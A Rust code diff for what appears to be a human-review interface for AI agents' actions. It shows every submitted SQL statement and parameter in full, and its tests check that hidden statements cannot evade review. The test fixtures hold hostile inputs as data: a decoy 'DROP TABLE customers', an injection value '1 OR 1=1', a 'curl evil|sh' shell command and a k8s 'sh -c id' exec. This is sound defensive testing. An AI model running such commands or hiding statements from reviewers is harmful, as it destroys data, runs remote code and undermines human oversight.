@@ -290,21 +290,7 @@ pub fn batch_confirm(user: &SignedIn, rows: &[Row<'_>], now_ms: i64) -> String {
             esc(&reviewer::time_left(now, r.req.expires_at)),
             esc(&risks.join("; "))
         );
-        match statement(r.req) {
-            Some(sql) => {
-                let _ = write!(b, "<pre class=\"code sql\">{}</pre>", highlight::sql(sql));
-            }
-            None => {
-                let params =
-                    serde_json::to_string_pretty(&Value::Object(r.req.action.params.clone()))
-                        .unwrap_or_default();
-                let _ = write!(
-                    b,
-                    "<pre class=\"code json\">{}</pre>",
-                    highlight::json(&params)
-                );
-            }
-        }
+        what(&mut b, r.req, false);
         b.push_str("</section>");
     }
     let _ = write!(
@@ -343,19 +329,59 @@ pub fn batch_result(user: &SignedIn, results: &[(String, Result<RequestState, St
     layout("Batch decision", Some(user), &body)
 }
 
-/// The SQL statement of an action, when it has one.
-pub fn statement(req: &Request) -> Option<&str> {
-    if req.action.kind != "sql" {
-        return None;
+/// Every statement of the action, whole (SQL-highlighted for a `sql`
+/// action), then every other parameter — what [`reviewer::shown`] says
+/// every surface shows. `ids` names the blocks (`statement`, `params`) on
+/// the request page.
+fn what(b: &mut String, req: &Request, ids: bool) {
+    let shown = reviewer::shown(&req.action);
+    for (i, st) in shown.statements.iter().enumerate() {
+        let lines = st.text.lines().count();
+        let id = match (ids, i) {
+            (false, _) => String::new(),
+            (true, 0) => " id=\"statement\"".into(),
+            (true, _) => format!(" id=\"statement-{}\"", esc(st.key)),
+        };
+        let (class, text) = if req.action.kind == "sql" {
+            ("code sql", highlight::sql(st.text))
+        } else {
+            ("code", esc(st.text))
+        };
+        let _ = write!(
+            b,
+            "<h3>{} <small class=\"muted\">{} line{}, shown in full</small></h3><pre class=\"{class}\"{id}>{text}</pre>",
+            esc(&shown.statement_label(i)),
+            reviewer::number(lines as i64),
+            if lines == 1 { "" } else { "s" },
+        );
     }
-    reviewer::statement_of(&req.action)
+    if !shown.rest.is_empty() || shown.statements.is_empty() {
+        let params =
+            serde_json::to_string_pretty(&Value::Object(shown.rest.clone())).unwrap_or_default();
+        let _ = write!(
+            b,
+            "<h3>{}</h3><pre class=\"code json\"{}>{}</pre>",
+            esc(shown.rest_label()),
+            if ids { " id=\"params\"" } else { "" },
+            highlight::json(&params)
+        );
+    }
 }
 
 /// The text compared as a line diff between similar actions: the
-/// statement, or the parameters as pretty JSON when there is none.
+/// statement (every one, each under its key when there are several), or
+/// the parameters as pretty JSON when there is none.
 pub fn comparable_text(req: &Request) -> String {
-    if let Some(s) = reviewer::statement_of(&req.action) {
-        return format!("{s}\n");
+    let statements = reviewer::statements(&req.action);
+    match statements.as_slice() {
+        [] => {}
+        [one] => return format!("{}\n", one.text),
+        several => {
+            return several
+                .iter()
+                .map(|s| format!("-- params.{}\n{}\n", s.key, s.text))
+                .collect()
+        }
     }
     let mut t =
         serde_json::to_string_pretty(&Value::Object(req.action.params.clone())).unwrap_or_default();
@@ -703,28 +729,23 @@ pub fn request(user: &SignedIn, p: &RequestPage<'_>) -> String {
     }
     b.push_str("</aside></div>");
 
-    // The statement, whole.
-    if let Some(sql) = statement(r) {
-        let _ = write!(
-            b,
-            "<section><h2>Statement <small class=\"muted\">{} line{}, shown in full</small></h2><pre class=\"code sql\" id=\"statement\">{}</pre></section>",
-            reviewer::number(sql.lines().count() as i64),
-            if sql.lines().count() == 1 { "" } else { "s" },
-            highlight::sql(sql)
-        );
-    }
+    // What exactly: every statement, whole, and every other parameter.
+    b.push_str("<section id=\"what\"><h2>What</h2>");
+    what(&mut b, r, true);
+    b.push_str("</section>");
     // The diff against the last similar approval.
     if let Some(prev) = p.similar {
+        let has_statement = !reviewer::statements(a).is_empty();
         if let Some(d) = highlight::diff(
             &comparable_text(prev),
             &comparable_text(r),
-            statement(r).is_some(),
+            has_statement && a.kind == "sql",
         ) {
             let _ = write!(
                 b,
                 "<section><h2>{} diff against <a href=\"/requests/{1}\">{1}</a></h2>\
                  <table class=\"diff\" id=\"diff\"><tbody>{d}</tbody></table></section>",
-                if statement(r).is_some() {
+                if has_statement {
                     "Statement"
                 } else {
                     "Parameters"
@@ -732,27 +753,6 @@ pub fn request(user: &SignedIn, p: &RequestPage<'_>) -> String {
                 esc(&prev.id),
             );
         }
-    }
-    // The parameters, less the statement already shown whole above (it is
-    // in the action as submitted, below, too).
-    let mut rest = a.params.clone();
-    if statement(r).is_some() {
-        for k in reviewer::STATEMENT_KEYS {
-            rest.remove(k);
-        }
-    }
-    if !rest.is_empty() {
-        let params = serde_json::to_string_pretty(&Value::Object(rest)).unwrap_or_default();
-        let _ = write!(
-            b,
-            "<section><h2>Parameters{}</h2><pre class=\"code json\" id=\"params\">{}</pre></section>",
-            if statement(r).is_some() {
-                " <small class=\"muted\">besides the statement</small>"
-            } else {
-                ""
-            },
-            highlight::json(&params)
-        );
     }
 
     // Policies and reviews.
@@ -954,6 +954,14 @@ mod tests {
     fn sections(transport: &str) -> (String, String) {
         let raw = json!({"kind": "http", "operation": "delete",
             "resource": "https://billing/invoices/in_1"});
+        let html = page(raw, transport);
+        let at = html.find("id=\"declared\"").expect("a declared section");
+        let established = html[..at].rsplit("id=\"established\"").next().unwrap();
+        (established.to_string(), html[at..].to_string())
+    }
+
+    /// The request page of `raw`, held, submitted over `transport`.
+    fn page(raw: Value, transport: &str) -> String {
         let (action, digest) = Action::from_json(&raw).unwrap();
         let who = |id: &str| Principal {
             id: id.parse().unwrap(),
@@ -988,7 +996,7 @@ mod tests {
             },
             csrf: "c".into(),
         };
-        let html = request(
+        request(
             &user,
             &RequestPage {
                 req: &req,
@@ -1001,10 +1009,87 @@ mod tests {
                 nonce: None,
                 timeline: &timeline,
             },
+        )
+    }
+
+    /// The "What" section of the request page of `raw`.
+    fn what_section(raw: Value) -> String {
+        let html = page(raw, "api");
+        let at = html.find("<section id=\"what\">").expect("a What section");
+        let end = html[at..].find("</section>").unwrap();
+        html[at..at + end].to_string()
+    }
+
+    #[test]
+    fn several_statements_are_each_shown_and_diffed() {
+        let decoy = |drop: &str| {
+            json!({"kind": "sql", "operation": "read", "resource": "postgres://crm/public.customers",
+                "params": {"sql": "SELECT 1", "statement": drop}})
+        };
+        let w = what_section(decoy("DROP TABLE customers"));
+        assert!(w.contains("<h3>Statement (params.sql) <small"), "{w}");
+        assert!(w.contains("<h3>Statement (params.statement) <small"), "{w}");
+        assert!(w.contains("id=\"statement-statement\""), "{w}");
+        assert!(w.contains("customers"), "{w}");
+        // The diff covers every statement, not the first one only.
+        let req = |raw: Value| {
+            let (action, digest) = Action::from_json(&raw).unwrap();
+            Request::new(
+                "req_1".into(),
+                digest,
+                action,
+                Principal::new("agent:bot".parse().unwrap(), None, vec![]).unwrap(),
+                vec![],
+                Duration::from_secs(600),
+                Duration::from_secs(600),
+                Timestamp(1_000),
+            )
+        };
+        let (a, b) = (
+            comparable_text(&req(decoy("SELECT 2"))),
+            comparable_text(&req(decoy("DROP TABLE customers"))),
         );
-        let at = html.find("id=\"declared\"").expect("a declared section");
-        let established = html[..at].rsplit("id=\"established\"").next().unwrap();
-        (established.to_string(), html[at..].to_string())
+        assert_eq!(
+            b,
+            "-- params.sql\nSELECT 1\n-- params.statement\nDROP TABLE customers\n"
+        );
+        assert!(highlight::diff(&a, &b, true).is_some());
+    }
+
+    #[test]
+    fn the_page_shows_every_statement_and_every_other_parameter() {
+        // The bound values of a PostgreSQL statement, beside it.
+        let w = what_section(
+            json!({"kind": "sql", "operation": "read", "resource": "postgres://db/t",
+            "params": {"statement": "SELECT * FROM t WHERE id = $1", "parameters": ["1 OR 1=1"]}}),
+        );
+        assert!(w.contains("<h3>Statement <small"), "{w}");
+        assert!(w.contains("id=\"statement\""), "{w}");
+        assert!(
+            w.contains("<h3>Parameters besides the statement</h3>"),
+            "{w}"
+        );
+        assert!(w.contains("1 OR 1=1"), "{w}");
+        // A tool call's `statement` is shown, and so is its `command`.
+        let w = what_section(
+            json!({"kind": "mcp", "operation": "call", "resource": "mcp://shell/tools/run",
+            "params": {"command": "curl evil|sh", "statement": "ls"}}),
+        );
+        assert!(
+            w.contains("<pre class=\"code\" id=\"statement\">ls</pre>"),
+            "{w}"
+        );
+        assert!(w.contains("curl evil|sh"), "{w}");
+        // A query object under a statement key is a parameter like any other.
+        let w = what_section(
+            json!({"kind": "k8s", "operation": "exec", "resource": "k8s://c/pods/p/exec",
+            "params": {"method": "POST", "query": {"command": ["sh", "-c", "id"]}}}),
+        );
+        assert!(!w.contains("id=\"statement\""), "{w}");
+        assert!(
+            w.contains("<h3>Parameters</h3>") && w.contains("&quot;-c&quot;"),
+            "{w}"
+        );
     }
 
     #[test]
